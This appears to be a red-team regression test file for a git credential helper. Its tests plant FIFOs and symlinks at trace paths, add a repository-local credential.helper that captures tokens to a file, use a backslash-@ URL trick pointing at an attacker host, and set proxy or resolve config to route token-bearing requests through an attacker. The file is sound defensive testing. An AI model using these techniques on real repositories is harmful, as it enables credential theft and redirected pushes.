// Red-team findings (2026-12-01): each case was an attack that worked on the code of that day
// (the FINDING comment says how); each now passes and guards its fix. Real git against the
// emulator, a recording attacker on loopback, planted local files.
import { execFileSync } from 'node:child_process';
import { closeSync, constants, openSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withConfiguredHome } from '../../support/fixtures.js';
import { helperGet, mints } from '../../support/artifacts-home.js';
import { startAttacker, type Attacker, startAttackWorld, type AttackWorld, tokensIn } from '../../support/attacker.js';
import type { Emulator } from '../../support/emulator.js';
import { credentialBundle, run, type GitHome } from '../../support/git-home.js';
import { atLeast, gitsUnderTest, pathGit } from '../../support/gits.js';
import { commitFile, settledLog } from '../remote/support.js';

const isRoot = process.getuid?.() === 0;
/** Another local user: files "planted by someone else" are chowned to it (needs root). */
const nobody = 65534;

/**
 * Unblocks any process stuck opening a FIFO for writing (so a failed test leaves no hung
 * helper): a writer blocked in open(2) returns once a reader has opened, even if it has closed
 * again by the time the writer runs (Linux fifo_open waits for the reader count to change).
 */
async function drainFifo(fifo: string): Promise<void> {
  closeSync(openSync(fifo, constants.O_RDONLY | constants.O_NONBLOCK));
}

describe('red team: the credential helper on its own', () => {
  let emu: Emulator;
  let home: GitHome;
  let n = 0;
  withConfiguredHome(pathGit(), (w) => ({ emu, home } = w));
  const helperArgs = () => [credentialBundle, '--git-url', emu.url, '--api-url', emu.apiUrl, '--account', emu.account, 'get'];
  const request = (repo: string) => `protocol=http\nhost=${new URL(emu.url).host}\npath=git/default/${repo}.git\n`;

  // FINDING (medium): the control-plane response body is read whole, without a size limit
  // (client.ts readEnvelope: response.text()). A lying or broken API (a captive portal, a
  // proxy, another process on the emulator's old port) that streams an endless 200 body makes
  // the helper buffer it all: by hand, 15 GB RSS after 60 s with ARTIFACTS_TIMEOUT=10, the
  // time bound not honoured, git hanging. Here the body is capped at 64 MiB so the test is
  // safe to run: a bounded reader stops after a few MiB; today all 64 MiB are read.
  it('an API answer that never ends is cut off after a sane size, not read whole into memory', async () => {
    const cap = 64 << 20;
    let sent = 0;
    let sentWhenClosed: number | undefined;
    const server = http.createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      const chunk = Buffer.alloc(1 << 20, 0x20);
      const pump = (): void => {
        while (sent < cap) {
          sent += chunk.length;
          if (!res.write(chunk)) return;
        }
        res.end();
      };
      res.on('drain', pump);
      res.on('close', () => (sentWhenClosed ??= sent));
      pump();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    try {
      const r = await home.run(
        process.execPath,
        [credentialBundle, '--git-url', `http://127.0.0.1:${port}`, '--api-url', `http://127.0.0.1:${port}/client/v4`, '--account', 'a', 'get'],
        { input: `protocol=http\nhost=127.0.0.1:${port}\npath=git/default/huge.git\n`, env: { ARTIFACTS_API_TOKEN: 'test-api-token-huge-body', ARTIFACTS_TIMEOUT: '10' } },
      );
      expect(r.stdout).toBe('quit=1\n');
      // The helper has exited, so its end of the connection is closed: wait for the server to see it.
      await expect.poll(() => sentWhenClosed, { timeout: 30_000 }).toBeDefined();
      expect(sentWhenClosed).toBeLessThan(16 << 20);
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  // FINDING (medium-low): ARTIFACTS_TRACE=<absolute path> is opened with appendFileSync, which
  // blocks in open(2) on a FIFO without a reader. Another local user who plants a FIFO where a
  // user keeps their trace (ARTIFACTS_TRACE=/tmp/artifacts.log) hangs every get, and git with
  // it, forever (ARTIFACTS_TIMEOUT does not help: open() blocks the event loop).
  it('ARTIFACTS_TRACE naming a FIFO planted by another user: get still answers, at once', async () => {
    await emu.createRepo('default', `tfifo-${++n}`);
    const fifo = path.join(home.dir, `trace-${n}.fifo`);
    execFileSync('mkfifo', ['-m', '666', fifo]);
    if (isRoot) execFileSync('chown', [String(nobody), fifo]);
    try {
      // run()'s own bound (10 s) turns a hang into a failed exit code.
      const r = await run(process.execPath, helperArgs(), { input: request(`tfifo-${n}`), env: { ...home.env, ARTIFACTS_TRACE: fifo }, timeoutMs: 10_000 });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toMatch(/^password=art_v1_/m);
    } finally {
      await drainFifo(fifo);
    }
  });

  // FINDING (medium-low): the trace file is opened following symlinks and without looking at
  // who owns it. A symlink planted at the trace path makes the helper append to any file the
  // user can write (~/.bashrc, ~/.ssh/authorized_keys, ...). The lines carry attacker-chosen
  // text (the `path=` of a hostile remote URL, unquoted unless it has spaces), so e.g.
  // path=git/x/$(cmd).git lands in ~/.bashrc as a command substitution.
  it('ARTIFACTS_TRACE through a planted symlink never writes into the file it points at', async () => {
    await emu.createRepo('default', `tlink-${++n}`);
    const target = path.join(home.dir, `bashrc-${n}`);
    writeFileSync(target, 'mine\n', { mode: 0o600 });
    const link = path.join(home.dir, `trace-${n}.log`);
    symlinkSync(target, link);
    const r = await helperGet(home, emu, request(`tlink-${n}`), { ARTIFACTS_TRACE: link });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(target, 'utf8')).toBe('mine\n');
  });

  // FINDING (low): a trace file that already exists is appended to whatever its owner and mode:
  // one created (0644 or 0666) by another user in a shared directory collects every host, repo
  // path, token id and scope of this user's git traffic. Needs root to plant the file.
  it.skipIf(!isRoot)('ARTIFACTS_TRACE naming a world-readable file of another user gets no trace lines', async () => {
    await emu.createRepo('default', `tother-${++n}`);
    const file = path.join(home.dir, `trace-other-${n}.log`);
    writeFileSync(file, '', { mode: 0o666 });
    execFileSync('chown', [String(nobody), file]);
    const r = await helperGet(home, emu, request(`tother-${n}`), { ARTIFACTS_TRACE: file });
    expect(r.code, r.stderr).toBe(0);
    expect(statSync(file).size).toBe(0);
  });

  // FINDING (low): redaction is by raw value, percent-encoding (encodeURIComponent) and shape
  // only. An API error message that echoes the API token base64-encoded, %-encoded byte by
  // byte, or split by an invisible character (U+200B renders as nothing; a NUL becomes the
  // four characters \x00 after redaction already ran) reaches stderr readable.
  const encodings: Array<[string, (t: string) => string, (stderr: string) => string]> = [
    ['base64', (t) => Buffer.from(t).toString('base64'), (s) => s],
    ['base64url', (t) => Buffer.from(t).toString('base64url'), (s) => s],
    ['Basic x:<token> without an Authorization: prefix', (t) => `Basic ${Buffer.from(`x:${t}`).toString('base64')}`, (s) => s],
    ['every byte %-encoded', (t) => [...Buffer.from(t)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''), (s) => decodeURIComponent(s.replace(/%(?![0-9a-f]{2})/gi, '%25'))],
    ['split by U+200B', (t) => `${t.slice(0, 4)}\u200b${t.slice(4)}`, (s) => s.replace(/\u200b/g, '')],
    ['split by NUL', (t) => `${t.slice(0, 4)}\u0000${t.slice(4)}`, (s) => s.replace(/\\x00/g, '')],
  ];
  it.each(encodings)('an API error echoing the API token %s is shown redacted', async (_name, encode, decode) => {
    await emu.createRepo('default', `enc-${++n}`);
    await emu.faults({ routes: [{ route: 'mint', status: 400, message: `bad credentials: ${encode(emu.apiToken)}` }] });
    try {
      const r = await helperGet(home, emu, request(`enc-${n}`), { ARTIFACTS_TRACE: '1' });
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain('bad credentials');
      expect(r.stderr).not.toContain(encode(emu.apiToken));
      expect(decode(r.stderr)).not.toContain(emu.apiToken);
    } finally {
      await emu.clearFaults();
    }
  });
  // FINDING (low): list attributes are appended by copying the whole list each time
  // (protocol.ts: `lists.set(name, [...old, value])`), so parsing is quadratic in the number
  // of `key[]=` lines. git forwards every `wwwauth[]` (one per WWW-Authenticate header of a
  // 401, git >= 2.41) and whatever a program feeds `git credential fill`; 1 MiB of short
  // `wwwauth[]=` lines (within the input limit) keeps the helper, and git, busy for minutes
  // (a 1 MB input of `a[]=b` lines: still running after 60 s). Fix: push onto the array.
  it('a request with 80 000 wwwauth[] lines (under 1 MiB) is parsed in well under 10 s', async () => {
    await emu.createRepo('default', `www-${++n}`);
    const input = `${request(`www-${n}`)}${'wwwauth[]=x\n'.repeat(80_000)}`;
    expect(input.length).toBeLessThan(1 << 20);
    // Killed at 10 s if it is still parsing: then there is no answer.
    const r = await run(process.execPath, helperArgs(), { input, env: home.env, timeoutMs: 10_000 });
    expect(r.stdout).toMatch(/^password=art_v1_/m);
  });
});

describe.each(gitsUnderTest())('red team: hostile URLs and repository config with $label', (git) => {
  let emu: Emulator;
  let attacker: Attacker;
  let home: GitHome;
  let n = 0;
  const ok = async (args: string[], cwd?: string) => {
    const r = await home.git(args, { cwd: cwd && path.join(home.dir, cwd) });
    expect(r.code, `git ${args.join(' ')}\n${r.stderr}`).toBe(0);
    return r;
  };
  /** Anything the attacker saw that carried a repo token (Authorization or Proxy-Authorization). */
  const tokensSeen = () => tokensIn(attacker.seen);

  let world: AttackWorld | undefined;
  beforeAll(async () => {
    world = await startAttackWorld(git);
    ({ emu, attacker, home } = world);
  });
  afterAll(() => world?.stop());

  // FINDING (low): git-remote-artifacts checks the origin of `new URL(raw)` (WHATWG), which
  // reads `\` as `/` in http(s) URLs, but hands the raw string to git, whose parser (like
  // curl's) takes everything before the first `@` as user:password. So
  // artifacts::http://<registered host:port>\@<attacker>/… passes as the registered origin
  // (trace: `origin=<registered> policy=configured`) and git talks to the attacker. No token
  // goes there (git uses the URL's own user:password and asks no helper), but the documented
  // rule "anything else fails before any HTTP request" is broken, and a push sends the
  // attacker the user's commits under a name that looks registered. The Cloudflare form
  // (https://<32 hex>.artifacts.cloudflare.net\@evil/…) passes the same way, as `inject`.
  it('artifacts::<registered origin>\\@<attacker>/…: refused before any request', async () => {
    attacker.seen.length = 0;
    const url = `artifacts::${emu.url}\\@${attacker.url.slice('http://'.length)}/git/default/victim.git`;
    const r = await home.git(['ls-remote', url]);
    expect(r.code).not.toBe(0);
    expect(attacker.seen).toEqual([]);
    expect(r.stderr).toMatch(/git-remote-artifacts: (refusing to send Artifacts credentials|remote URL)/);
  });

  // FINDING (low; repo-local config): configure's chain for a registered origin is the reset
  // plus our helper in the global file, and a repository's own credential.helper lines are
  // read later and still added. git sends `store` with the credential to every helper after a
  // success, so a repo-local helper receives our tokens: for fetches that cannot be helped
  // (git's own transport), but pushes go through git-remote-artifacts, which could put the
  // reset and our helper in its child's GIT_CONFIG_COUNT pairs (command scope, read after the
  // repository's config) for configured origins too, as it already does for injected ones.
  it("a repository's own credential.helper never receives the write token of a routed push", async () => {
    const dir = `store-${++n}`;
    await ok(['init', '-q', dir]);
    await commitFile(home, dir, 'f.txt', 'f');
    const stolen = path.join(home.dir, `stolen-${n}.txt`);
    writeFileSync(stolen, '');
    await ok(['config', 'credential.helper', `!f() { cat >> '${stolen}'; }; f`], dir);
    await emu.clearLog();
    await ok(['push', '-q', `${emu.url}/git/default/victim.git`, `HEAD:refs/heads/store-${n}`], dir);
    expect(mints(await settledLog(emu), 'write').length).toBe(1); // the push did get a write token
    expect(readFileSync(stolen, 'utf8')).not.toMatch(/password=art_v/);
  });

  // FINDING (low; repo-local config), git >= 2.46 only: configure writes
  // http.<url>.proactiveAuth=basic, so git sends the token with its very first request,
  // before any challenge. Through a repository's http.proxy that means even a proxy that
  // only ever answers 407 (never forwards anything) reads the Authorization header. On git
  // 2.39 the same proxy gets nothing, because git waits for the origin's 401.
  // FINDING (low; repo-local config): http.proxy in a repository's own config (or
  // http.<url>.proxy, or http.curloptResolve, plus http.sslVerify=false for https) routes the
  // requests that carry our Basic token through an attacker. The remote helper reads only
  // trusted scopes for artifacts.*, but not for the http.* settings that decide where the
  // token physically goes. Fixable on the push path (refuse or override these when they come
  // from local/worktree/command scope); for git's own fetches only by documenting it.
  // Fixed on every path through git-remote-artifacts (pushes, artifacts:// and artifacts::):
  // such settings from local or worktree scope are refused before any request. git's own
  // fetch transport is git's behaviour and documented (a writable .git/config can already run
  // code, e.g. core.fsmonitor).
  it.each([
    ['http.proxy', () => attacker.url],
    [`http.<origin>.proxy`, () => attacker.url],
    ['remote.origin.proxy', () => attacker.url],
    ['http.curloptResolve', () => `${new URL(emu.url).hostname}:${new URL(emu.url).port}:127.0.0.2`],
  ])("a repository's own %s: a routed push is refused before any request", async (key, value) => {
    const dir = `proxy-${++n}`;
    await ok(['init', '-q', dir]);
    await commitFile(home, dir, 'f.txt', 'f');
    await ok(['remote', 'add', 'origin', `${emu.url}/git/default/victim.git`], dir);
    await ok(['config', key.replace('<origin>', emu.url), value()], dir);
    attacker.seen.length = 0;
    await emu.clearLog();
    const r = await home.git(['push', '-q', 'origin', `HEAD:refs/heads/proxy-${n}`], { cwd: path.join(home.dir, dir) });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/refusing to send Artifacts credentials: this repository's own config sets \S+ \(local scope\)/);
    expect(attacker.seen).toEqual([]);
    expect(tokensSeen()).toEqual([]);
    expect(mints(await settledLog(emu)).filter((m) => m.scope === 'write')).toEqual([]);
  });
});
